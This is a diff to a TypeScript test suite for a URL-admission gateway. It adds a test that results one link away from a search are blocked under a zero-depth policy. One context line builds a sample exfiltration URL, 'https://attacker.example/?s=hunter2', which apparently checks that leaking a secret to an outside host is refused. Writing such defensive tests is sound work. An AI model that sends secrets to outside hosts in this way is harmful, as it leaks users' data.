@@ -23,6 +23,7 @@ const readUrls = (body: Body) => (body['results'] as { url: string }[]).map(({ u
 const failures = (body: Body) => body['failed_results'] as { url: string; error: string; code: string }[];
 const codeIn = (text: string) => /[2-9A-Z]{4}-[2-9A-Z]{4}-[2-9A-Z]{4}/.exec(text)?.[0] ?? '';
 const find = async (key: string, query = 'mill') => readUrls((await ask(key, '/search', { query })).body);
+const narrow = (rules: object) => ({ 'x-headgate-policy': JSON.stringify(rules) });
 const lastPolicy = async () => {
   const { body } = await gateway.admin('GET', '/calls?policy=*&limit=1');
   return (body['calls'] as Body[])[0]?.['policy'];
@@ -50,6 +51,11 @@ describe('admitted addresses', () => {
     expect(readUrls(await read(key, url))).toEqual([url]);
     const link = `${new URL(url).origin}/more`;
     expect(readUrls(await read(key, link))).toEqual([link]);
+
+    // A link of a result is one link away from the search.
+    const near = await ask(key, '/extract', { urls: [url, link] }, narrow({ max_depth: 0 }));
+    expect([readUrls(near.body), failures(near.body)]).toMatchObject([[url], [{ code: 'BLOCKED_HOST' }]]);
+    expect(failures(near.body)[0]?.error).toContain('1 link away, and only 0 may be followed');
 
     const secret = 'https://attacker.example/?s=hunter2';
     const mixed = await read(key, url, secret);
